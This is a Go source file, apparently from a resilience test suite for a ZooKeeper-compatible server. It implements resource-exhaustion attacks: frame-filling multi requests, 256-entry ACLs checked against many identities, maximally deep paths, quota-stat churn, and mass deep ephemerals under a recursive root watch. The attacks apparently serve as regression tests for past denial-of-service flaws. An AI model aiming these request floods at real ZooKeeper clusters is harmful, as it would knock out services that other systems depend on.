package main

import (
	"fmt"
	"strings"
	"time"

	"github.com/zooid-project/zooid/jute"
)

// The attacks of this file are small requests that used to be much work: their cost grew with the product of two
// numbers that a client may choose.

// multis sends a multi or multiRead with as many of the given operations as fit into a frame, again
// and again, until the connection ends.
func (c *conn) multis(op jute.Op, ops []jute.MultiOp) {
	record := jute.AppendMulti(nil, ops)
	for !c.f.over() {
		if code, _, err := c.call(op, record); err != nil || code == jute.ErrMarshallingError {
			return
		}
	}
}

// filled repeats operations as often as they fit into a frame of which they take size bytes each.
func filled(size int, ops ...jute.MultiOp) []jute.MultiOp {
	var all []jute.MultiOp
	for n := 0; n < (frameMax-100)/size/len(ops); n++ {
		all = append(all, ops...)
	}
	return all
}

// creation is the operation that creates a znode without data.
func creation(path string, mode jute.CreateMode) jute.MultiOp {
	return jute.MultiOp{Op: jute.OpCreate, Path: path, ACL: jute.WorldACL(jute.PermAll), Flags: mode}
}

// prepared returns a connection for a while of preparation, nil once the attack is over.
func (f *field) prepared() *conn {
	for !f.over() {
		if c := orNil(f.connect(f.addr(0), 40_000)); c != nil {
			return c
		}
	}
	return nil
}

// attackLongACLs reads and checks a znode with an ACL of 256 entries, of which only the last admits the
// sender, who has 60 identities besides.
func attackLongACLs(f *field) error {
	path := hostileRoot + "-acl"
	acl := make([]jute.ACL, 255)
	for i := range acl {
		acl[i] = jute.ACL{Perms: jute.PermAll, ID: jute.ID{Scheme: "digest", ID: fmt.Sprintf("user%d:x", i)}}
	}
	acl = append(acl, jute.ACL{Perms: jute.PermAll, ID: jute.ID{Scheme: "auth"}})
	login := func(c *conn) {
		for n := range 59 {
			c.call(jute.OpAuth, authRecord(fmt.Sprintf("person%d:x", n)))
		}
		c.call(jute.OpAuth, authRecord("last:last"))
	}
	c := f.prepared()
	if c == nil {
		return nil
	}
	c.call(jute.OpAuth, authRecord("last:last"))
	c.call(jute.OpCreate, (&jute.CreateRequest{Path: path, ACL: acl}).Append(nil))
	c.close()
	f.connected(3, 20_000, func(i int, c *conn) {
		login(c)
		if i == 0 {
			c.multis(jute.OpMulti, filled(17+len(path), jute.MultiOp{Op: jute.OpCheck, Path: path, Version: -1}))
		} else {
			c.unpaced = true
			c.multis(jute.OpMultiRead, filled(14+len(path), jute.MultiOp{Op: jute.OpGetChildren, Path: path}))
		}
	})
	return nil
}

// attackDeepPaths sends paths of as many parts as fit into a frame, to every operation that has a path.
func attackDeepPaths(f *field) error {
	deep := strings.Repeat("/a", (frameMax-200)/2)
	f.sessions(3, func(_ int, c *conn, x extreme) {
		for !f.over() {
			path := pick(x, []string{deep, deep, hostileRoot + deep[:len(deep)-20], strings.Repeat("/", len(deep))})
			q := jute.CreateRequest{Path: path, ACL: jute.WorldACL(jute.PermAll), Flags: x.mode()}
			var record []byte
			op := pick(x, []jute.Op{jute.OpCreate, jute.OpCreate2, jute.OpSetData, jute.OpExists, jute.OpGetData})
			switch op {
			case jute.OpCreate, jute.OpCreate2:
				record = q.Append(nil)
			case jute.OpSetData:
				record = setRecord(path, "x")
			default:
				record = readRecord(path)
			}
			if c.send(op, record) != nil {
				break
			}
		}
	})
	return nil
}

// attackQuotas creates and deletes the stats of a quota of a large subtree, thousands of times in a multi.
func attackQuotas(f *field) error {
	root := hostileRoot + "-counted"
	c := f.prepared()
	if c == nil {
		return nil
	}
	defer c.close()
	if !c.createMany(root) {
		return nil
	}
	quota := "/zookeeper/quota" + root
	c.create(quota, nil, jute.ModePersistent)
	stats := quota + "/zookeeper_stats"
	gone := jute.MultiOp{Op: jute.OpDelete, Path: stats, Version: -1}
	c.multis(jute.OpMulti, filled(len(stats)+50, creation(stats, 0), gone)[:quotasOfMulti])
	return nil
}

// quotasOfMulti is how many operations the multis of attackQuotas have: few enough that each is answered.
const quotasOfMulti = 2000

const (
	// deepEphemerals are the ephemerals of each session of attackDeepEphemerals, and deepParts the parts
	// of their paths: fewer than the limit of the path.
	deepEphemerals = 5000
	deepParts      = 980
)

// attackDeepEphemerals ends sessions with thousands of ephemerals far down, while another client
// has a recursive watch on the root.
func attackDeepEphemerals(f *field) error {
	c := f.prepared()
	if c == nil {
		return nil
	}
	defer c.close()
	parent := hostileRoot + "-deep"
	c.create(parent, nil, jute.ModePersistent)
	var ops []jute.MultiOp
	for range deepParts {
		parent += "/d"
		c.create(parent, nil, jute.ModePersistent)
	}
	f.connected(2, 20_000, func(i int, c *conn) {
		if i == 1 {
			end := c.drain()
			c.send(jute.OpAddWatch, (&jute.AddWatchRequest{Path: "/", Mode: jute.AddWatchPersistentRecursive}).Append(nil))
			f.sleep(time.Hour)
			end()
			return
		}
		for n := 0; n < deepEphemerals && !f.over(); {
			for ops = ops[:0]; len(ops) < 400; n++ {
				ops = append(ops, creation(fmt.Sprintf("%s/%d", parent, n), jute.ModeEphemeral))
			}
			if _, _, err := c.call(jute.OpMulti, jute.AppendMulti(nil, ops)); err != nil {
				break
			}
		}
		c.call(jute.OpCloseSession, nil)
	})
	return nil
}
